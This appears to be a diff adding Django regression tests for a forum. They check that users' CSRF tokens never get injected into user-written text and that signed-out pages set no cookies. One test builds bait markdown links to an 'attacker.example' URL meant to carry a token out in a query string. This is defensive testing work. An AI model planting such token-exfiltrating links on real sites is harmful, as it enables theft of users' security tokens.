@@ -1,8 +1,12 @@
 """No GET changes anything; no POST is accepted without a CSRF token."""
 
+import re
+
 import pytest
 from django.apps import apps
+from django.test import Client
 
+from accounts.services import update_profile
 from forum.models import TopicRead
 from moderation import services as moderation_services
 from tests.factories import ReplyFactory, TopicFactory, UserFactory, make_facilitator
@@ -109,3 +113,53 @@ def test_posts_without_csrf_token_are_refused(world):
         response = client.post(url, data)
         assert response.status_code == 403, url
     assert snapshot() == before
+
+
+# The text the page cache of an earlier design replaced with each reader's own
+# CSRF token and submission key; written by a user, it must stay just text.
+FORMER_PLACEHOLDERS = [
+    "csrf-token-placeholder-0d6c3f",
+    "submission-key-placeholder-5e1a9b",
+]
+
+
+def test_a_readers_csrf_token_never_lands_in_what_others_wrote():
+    bait = " ".join(
+        f"[link](https://attacker.example/c?t={marker})"
+        for marker in FORMER_PLACEHOLDERS
+    )
+    topic = TopicFactory(body=bait)
+    writer = topic.author
+    update_profile(user=writer, display_name="Writer", signature=bait)
+    facilitator = make_facilitator(topic.category)
+    hidden = ReplyFactory(topic=topic, body="Off topic.")
+    moderation_services.hide_post(post=hidden, actor=facilitator, reason=bait)
+    for reader in (UserFactory(), facilitator, writer):
+        client = signed_in(reader)
+        for _ in range(2):  # rendered, then from the fragment cache
+            page = client.get(topic.get_absolute_url()).content.decode()
+            token = client.cookies["csrftoken"].value
+            masked = re.findall(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
+            assert masked, "the page has forms with tokens"
+            for secret in [token, *masked]:
+                assert f"t={secret}" not in page
+            assert page.count(f"t={FORMER_PLACEHOLDERS[0]}") >= 2
+
+
+def test_signed_out_pages_set_no_cookie():
+    """A signed-out reader gets no CSRF cookie (or any other) from reading: the
+    page is the same for every such reader and may be cached for all of them."""
+    topic = TopicFactory(body=f"See {FORMER_PLACEHOLDERS[0]}")
+    ReplyFactory(topic=topic)
+    client = Client()
+    for url in [
+        "/",
+        topic.category.get_absolute_url(),
+        topic.get_absolute_url(),
+        f"/u/{topic.author.username}/",
+        "/search/?q=see",
+        "/feeds/topics.atom",
+    ]:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert not response.cookies, (url, list(response.cookies))
